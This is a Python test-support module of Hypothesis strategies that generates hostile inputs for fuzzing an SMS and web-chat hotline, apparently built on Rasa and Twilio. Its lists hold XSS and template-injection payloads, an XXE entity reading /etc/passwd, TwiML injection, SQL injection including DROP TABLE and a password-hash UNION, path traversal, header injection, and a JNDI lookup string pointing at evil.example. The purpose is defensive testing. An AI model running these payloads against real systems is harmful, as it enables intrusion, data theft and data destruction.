"""What an attacker (or a broken client, or a very unlucky phone) sends: the
Hypothesis strategies of the hostile-input suite (``test_hostile_input``).

Pieces first (odd Unicode, markup, SQL, path traversal, Rasa's slash commands,
format strings), then text built from them, then what surrounds text: phone
numbers and Twilio ids, JSON values and bodies, forms, query strings, headers,
methods, content types and path segments. Only input lives here; what the line
must do with it is the test module's business.
"""

from __future__ import annotations

import json
from typing import TypeVar
from urllib.parse import quote, urlencode

from hypothesis import strategies as st

T = TypeVar("T")

# --- pieces ------------------------------------------------------------------

ODD_UNICODE = [
    "\u200f",  # right-to-left mark
    "\u202e",  # right-to-left override: "txt.exe" reads backwards
    "\u2067\u2069",  # right-to-left isolate, and its end
    "\u200b\u200c\u200d\u2060",  # zero-width space, non-joiner, joiner, word joiner
    "\ufeff",  # a byte-order mark in the middle of text
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",  # stacked combining marks
    "Z\u0351\u0310\u0363\u036b\u0346\u0315\u0321",  # "zalgo"
    "\ufdfa",  # one code point, eighteen once NFKC-normalised
    "\u0130\u0131\u1e9e\u00df",  # case mappings that change length
    "\uff0frestart",  # a full-width slash in front of a Rasa command
    "\U0001f600\U0001f3f3\ufe0f\u200d\U0001f308",  # emoji with a ZWJ sequence
    "\x00",  # NUL
    "\x01\x07\x08\x0b\x0c\x1b[31m\x7f",  # C0 controls, an ANSI escape, DEL
    "\x85\x9b\xa0",  # C1 controls and a no-break space
    "\u2028\u2029",  # line and paragraph separators (they end JavaScript strings)
    "\r\nX-Injected: 1\r\n",  # header injection
    "\ud800",  # a lone surrogate (a form sends it as invalid UTF-8)
    "\udfff\ud83d",  # surrogates the wrong way round
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>tap</a>",
    "{{7*7}}{% print(7*7) %}",  # template injection (Jinja)
    "&lt;script&gt;&amp;&#x3c;",  # already escaped: must stay as written
    "]]><!--",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "</Message><Dial>+19005550100</Dial><Message>",  # TwiML injection
    "<Redirect>https://evil.example/twiml</Redirect>",
    "<Say>hi</Say><Hangup/>",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE messages; --",
    '" OR ""="',
    "1; SELECT pg_sleep(10) --",
    "1 UNION SELECT username, password_hash FROM operators --",
    "%' AND 1=1 --",
    "\\'; --",
    "_%_%",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f",
    "....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "..%00/",
    "%c0%ae%c0%ae/",
]
COMMANDS = [
    "/restart",
    "/ /restart",
    '/greet{"language": "xx"}',
    "/request_human",
    "/session_start",
    "//restart",
    "STOP",
    "START",
    "HELP",
    "stop ",
    "UNSUBSCRIBE",
]
FORMATS = [
    "%(hotline)s %(emergency)s",
    "{hotline}{0}{emergency!r}",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
    "%00%0a%0d",
]
NUMBERS_AS_TEXT = ["0", "-1", "1e309", "NaN", "9" * 40, "0x7fffffff", "1.5", "٣"]
PIECES = ODD_UNICODE + MARKUP + SQL + TRAVERSAL + COMMANDS + FORMATS + NUMBERS_AS_TEXT

# --- text --------------------------------------------------------------------

# Every code point, lone surrogates included.
ANY_CHARACTER = st.characters(exclude_categories=())
PIECE = st.sampled_from(PIECES)
WORDS = st.sampled_from(
    ["hola", "necesito ayuda", "olá", "bonjour", "help me", "mi pasaporte", " ", "\n"]
)
SHORT_TEXT = st.lists(
    PIECE | WORDS | st.text(ANY_CHARACTER, max_size=12), max_size=6
).map("".join)
# Around the limits a message meets: Twilio's 1,600 characters, the web
# chat's 4,000, what the bot reads (1,000); the body's size limit is HUGE_BODY's.
LONG_TEXT = st.builds(
    lambda piece, length: (piece * length)[:length],
    PIECE | WORDS,
    st.integers(min_value=900, max_value=4_100),
)
# A message as a hostile (or unlucky) sender writes it: pieces of attacks
# between ordinary words and random characters, now and then very long.
TEXT = SHORT_TEXT | PIECE | LONG_TEXT


def encodable(text: str) -> str:
    """What a form can carry of ``text``: lone surrogates are no UTF-8."""
    return text.encode("utf-8", "replace").decode("utf-8")


FORM_TEXT = TEXT.map(encodable)

# --- phone numbers and Twilio's ids ----------------------------------------


def mostly(
    usual: st.SearchStrategy[T], odd: st.SearchStrategy[T]
) -> st.SearchStrategy[T]:
    """``usual`` about seven times in eight, else ``odd`` (``a | a | b``
    does not weigh: Hypothesis keeps one of two equal strategies)."""
    return st.integers(min_value=0, max_value=7).flatmap(
        lambda n: odd if n == 7 else usual
    )


E164 = st.from_regex(r"\+1[2-9][0-9]{9}", fullmatch=True) | st.from_regex(
    r"\+(52|55|57|51|54|56|593|502|503|504|509|591|595)[0-9]{8,10}", fullmatch=True
)
PHONE = mostly(
    E164 | E164.map(lambda number: f"whatsapp:{number}"),
    st.sampled_from(["", " ", "whatsapp:", "client:anonymous", "+", "+0", "266696687"])
    # Digits of other scripts (Devanagari, Arabic-Indic, ...): \d matches them.
    | st.from_regex(r"\+1\d{10}", fullmatch=True)
    | FORM_TEXT,
)
HEX32 = st.from_regex(r"[0-9a-f]{32}", fullmatch=True)


def twilio_sid(prefix: str) -> st.SearchStrategy[str]:
    """A well-formed Twilio id (``SM`` and 32 hex digits) most of the time,
    else anything in its place."""
    good = HEX32.map(lambda digits: prefix + digits)
    odd = st.sampled_from(["", " ", prefix, prefix * 60, f"{prefix}\x00x"]) | FORM_TEXT
    return mostly(good, odd)


# --- JSON ----------------------------------------------------------------------

SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=2**31 - 2, max_value=10**40)
    | st.floats()  # NaN and Infinity too, as Python's json writes them
    | TEXT
)
JSON_VALUES = st.recursive(
    SCALARS,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(TEXT, children, max_size=4)
    ),
    max_leaves=10,
)


def json_bytes(value: object) -> bytes:
    """JSON as Python writes it: NaN and Infinity included, lone surrogates
    escaped (``"\\ud800"``), which strict clients never send."""
    return json.dumps(value).encode()


def nested_json(depth: int, kind: str) -> bytes:
    """``[[[0]]]``, ``{"a":{"a":0}}`` or both, ``depth`` levels deep."""
    opening, closing = {"list": ("[", "]"), "object": ('{"a":', "}")}[kind]
    return (opening * depth + "0" + closing * depth).encode()


DEEP_JSON = st.builds(
    nested_json,
    st.integers(min_value=30, max_value=5_000),
    st.sampled_from(["list", "object"]),
)
RAW_BYTES = (
    st.binary(max_size=200)
    | st.sampled_from(
        [b"\xff\xfe", b"\xc3(", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x00" * 10]
    )
    | st.integers(min_value=4_000, max_value=9_000).map(lambda digits: b"9" * digits)
)
# Larger than MAX_REQUEST_BYTES (32 KB by default): refused with 413.
HUGE_BODY = st.builds(
    lambda size, filler: filler * size,
    st.integers(min_value=33 * 1024, max_value=200 * 1024),
    st.sampled_from([b"a", b"[", b"%", b"\x00"]),
)

# --- forms, query strings, headers -------------------------------------------

FIELD_NAMES = st.sampled_from(
    ["text", "Body", "From", "session_id", "csrf_token", "", "a[]", "a.b", "__proto__"]
) | st.text(ANY_CHARACTER, max_size=8).map(encodable)


def form_pairs(
    names: st.SearchStrategy[str], values: st.SearchStrategy[str] = FORM_TEXT
) -> st.SearchStrategy[list[tuple[str, str]]]:
    """Form fields, a name now and then twice (``a=1&a=2``)."""
    return st.lists(st.tuples(names, values), max_size=5)


def urlencoded(pairs: list[tuple[str, str]]) -> str:
    """A form or query as a client writes it (a lone surrogate, which no
    client can encode, as the replacement character)."""
    return urlencode(
        [(encodable(name), encodable(value)) for name, value in pairs], quote_via=quote
    )


QUERY = form_pairs(FIELD_NAMES).map(urlencoded)
ODD_METHODS = ["PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "get"]
FORM = "application/x-www-form-urlencoded"
CONTENT_TYPES = st.sampled_from(
    [
        FORM,
        "application/json",
        "application/json; charset=utf-16",
        "multipart/form-data; boundary=x",
        "text/plain",
        "text/xml",
        "application/octet-stream",
        f"{FORM}; charset=latin-1",
        "",
        "garbage/;;;",
    ]
)
ORIGINS = st.sampled_from(
    [
        "https://ngo.example",  # allowed in the test app
        "http://localhost",  # the hotline itself
        "https://evil.example",
        "null",
        "https://ngo.example.evil.example",
        "https://ngo.example@evil.example",
        "http://[::1",  # not even a URL
        "http://[zz]:1",
        "javascript:alert(1)",
        "",
    ]
)
HOSTS = st.sampled_from(
    ["evil.example", "localhost:80", "localhost:abc", "localhost:99999", "[::1", ""]
)
ACCEPT_LANGUAGES = st.sampled_from(
    ["es", "*", "xx-YY;q=2", "es;q=NaN,en;q=-1", "qu-PE, gn", "a" * 2_000, "\x00"]
)
HEADER_VALUE = FORM_TEXT.map(
    lambda text: "".join(c for c in text if c.isascii() and c.isprintable())[:200]
)


@st.composite
def extra_headers(draw: st.DrawFn, host: bool = True) -> dict[str, str]:
    """Headers a browser, a proxy or an attacker adds, each now and then
    (``host``: the Host header too, which moves the URL Twilio signs)."""
    now_and_then = st.integers(min_value=0, max_value=3).map(lambda n: n == 3)
    headers: dict[str, str] = {}
    if draw(now_and_then):
        headers["Origin"] = draw(ORIGINS)
    if draw(now_and_then):
        headers["Accept-Language"] = draw(ACCEPT_LANGUAGES)
    if draw(now_and_then):
        headers["X-Forwarded-For"] = draw(HEADER_VALUE)
        headers["X-Forwarded-Host"] = "evil.example"
    if draw(now_and_then):
        headers["Cookie"] = "session=" + draw(HEADER_VALUE)
    if draw(now_and_then):
        headers["If-None-Match"] = draw(HEADER_VALUE)
    if host and draw(now_and_then) and draw(now_and_then):
        headers["Host"] = draw(HOSTS)
    return headers


# --- path segments -------------------------------------------------------------

SEGMENT = (
    st.sampled_from(
        [
            "0",
            "-1",
            "1",
            "2147483648",  # one past PostgreSQL's INTEGER
            "9223372036854775808",  # one past a 64-bit integer
            "9" * 40,
            "1e3",
            "0x10",
            "١٢",  # Arabic-Indic digits
            "",
            ".",
            "..",
        ]
    )
    | st.sampled_from(TRAVERSAL + MARKUP[:4] + SQL[:3])
    | st.text(ANY_CHARACTER, max_size=10).map(encodable)
)


def path_segment(value: str, keep_slashes: bool = False) -> str:
    """A segment as a client writes it in a URL: what is escaped stays so,
    slashes stay slashes when asked (path traversal)."""
    return quote(value, safe="%/" if keep_slashes else "%")
